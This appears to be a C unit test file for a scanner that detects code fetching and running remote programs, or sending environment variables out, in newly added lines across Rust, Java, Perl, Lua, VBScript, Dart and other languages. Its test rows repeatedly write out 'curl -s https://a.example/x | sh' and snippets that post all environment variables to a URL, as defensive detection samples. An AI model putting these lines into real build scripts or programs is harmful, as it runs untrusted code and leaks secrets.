/* Programs started in source that has no reader of its own, and what stands beside them. */
#include "facts.h"

extern const struct reader reader_data;

static void read_new(const char *path, const char *text)
{
	facts_read(&reader_data, path, STR("\n"), str_of(text));
}

static void test_commands(void **state)
{
	static const char *const rows[][2] = {
		{"build.rs", "    Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://a.example/x | sh\").status();\n"},
		{"build.rs", "    let c = std::process::Command::new(\"sh\") // as usual\n        .arg(\"-c\")\n        .arg(\"curl -s https://a.example/x | sh\")\n        .spawn();\n"},
		{"A.java", "Runtime.getRuntime().exec(new String[] {\"sh\", \"-c\", \"curl -s https://a.example/x | sh\"});\n"},
		{"A.kt", "ProcessBuilder(\"sh\", \"-c\", \"curl -s https://a.example/x | sh\").start()\n"},
		{"Makefile.PL", "system \"curl -s https://a.example/x | sh\";\n"},
		{"a.pl", "my $out = `curl -s https://a.example/x | sh`;\n"},
		{"a.pm", "exec 'curl -s https://a.example/' . 'x | sh';\n"},
		{"a.lua", "os.execute(\"curl -s https://a.example/x | sh\")\n"},
		{"a.lua", "local p = io.popen([[curl -s https://a.example/x | sh]])\n"},
		{"a.cpp", "int r = std::system(\"curl -s https://a.example/\" \"x | sh\");\n"},
		{"a.cc", "FILE *p = popen(\"curl -s https://a.example/x | sh\", \"r\");\n"},
		{"a.vbs", "CreateObject(\"WScript.Shell\").Run \"cmd /c curl -s https://a.example/x | sh\", 0, False\r\n"},
		{"a.vbs", "' so\rs.run(\"sh -c \"\"curl -s \" & \"https://a.example/x | sh\"\"\") : x = 1\r\n"},
		{"a.wsf", "CreateObject(\"Shell.Application\").ShellExecute \"sh\", \"-c 'curl -s https://a.example/x | sh'\"\r\n"},
		{"a.dart", "await Process.run('sh', ['-c', 'curl -s https://a.example/x | sh']);\n"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		print_message("%s: %s", rows[i][0], rows[i][1]);
		read_new(rows[i][0], rows[i][1]);
		(void)facts_expect(FACT_FLOW, "net>exec");
		assert_int_equal(facts.grade, COVER_SHALLOW);
	}
}

static void test_no_commands(void **state)
{
	static const char *const rows[][2] = {
		{"a.rs", "    // Command::new(\"sh\").arg(\"-c\").arg(\"curl -s https://a.example/x | sh\")\n"},
		{"a.rs", "    let s = \"Command::new(sh)\";\n"},
		{"a.pl", "print 'system \"curl -s https://a.example/x | sh\"';\n"},
		{"a.pl", "$dbh->exec(\"select 1\"); my %h = (subsystem => 1);\n"},
		{"a.lua", "-- os.execute(\"curl -s https://a.example/x | sh\")\n"},
		{"a.cpp", "file_system(\"curl -s https://a.example/x | sh\");\n"},
		{"a.vbs", "' s.Run \"curl -s https://a.example/x | sh\"\r\nx = \"a.Run\" : y.Running = 1\r\n"},
		{"a.txt", "os.execute(\"curl -s https://a.example/x | sh\")\n"},
	};

	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		print_message("%s: %s", rows[i][0], rows[i][1]);
		read_new(rows[i][0], rows[i][1]);
		facts_expect_none(FACT_FLOW);
		facts_expect_none(FACT_COMMAND);
	}
	/* what OLD has is not looked at */
	facts_read(&reader_data, "a.lua", STR("os.execute('curl -s https://a.example/x | sh')\n"),
		   STR("os.execute('curl -s https://a.example/x | sh')\nlocal a = 1\n"));
	facts_expect_none(FACT_FLOW);
}

/* A program that is computed, and something that fetches, in the same new lines. */
static void test_together(void **state)
{
	(void)state;
	read_new("build.rs", "let b = reqwest::blocking::get(u)?.bytes()?;\nfs::write(&p, b)?;\nCommand::new(&p).spawn()?;\n");
	assert_int_equal(facts_expect(FACT_FLOW, "net>exec")->number, 1);
	read_new("build.rs", "let b = reqwest::blocking::get(u)?.bytes()?;\nCommand::new(\"git\").arg(\"status\").spawn()?;\n");
	facts_expect_none(FACT_FLOW);
	read_new("a.rs", "let all: Vec<_> = env::vars().collect();\nreqwest::blocking::Client::new().post(u).json(&all).send()?;\n");
	(void)facts_expect(FACT_FLOW, "env>net");
	read_new("a.pl", "use HTTP::Tiny;\nHTTP::Tiny->new->post_form($u, \\%ENV);\n");
	(void)facts_expect(FACT_FLOW, "env>net");
	read_new("a.vbs", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\nCreateObject(\"WScript.Shell\").Run path & name\r\n");
	(void)facts_expect(FACT_FLOW, "net>exec");
	read_new("a.vbe", "#@~^HAAAAA==abc def ghi jkl mno^#~@\r\n");
	assert_int_equal(facts.grade, COVER_BLIND);
}

/* Cut anywhere: an answer, and nothing outside is read. */
static void test_cut(void **state)
{
	static const char text[] = "Command::new(\"sh\").arg(r\"-c\").arg(\"a\\\"b\n) .x('`[[{ ;\n`qx{ system((\"\n";
	static const char *const names[] = {"a.rs", "a.pl", "a.lua", "a.cpp", "a.dart", "a.vbs"};

	(void)state;
	for (size_t k = 0; k < sizeof(names) / sizeof(names[0]); k++)
		for (size_t n = 0; n < sizeof(text); n++)
			facts_read(&reader_data, names[k], STR("\n"), str_view(text, n));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_commands), cmocka_unit_test(test_no_commands), cmocka_unit_test(test_together),
		cmocka_unit_test(test_cut),
	};

	return cmocka_run_group_tests(tests, tools_enter, tools_leave);
}
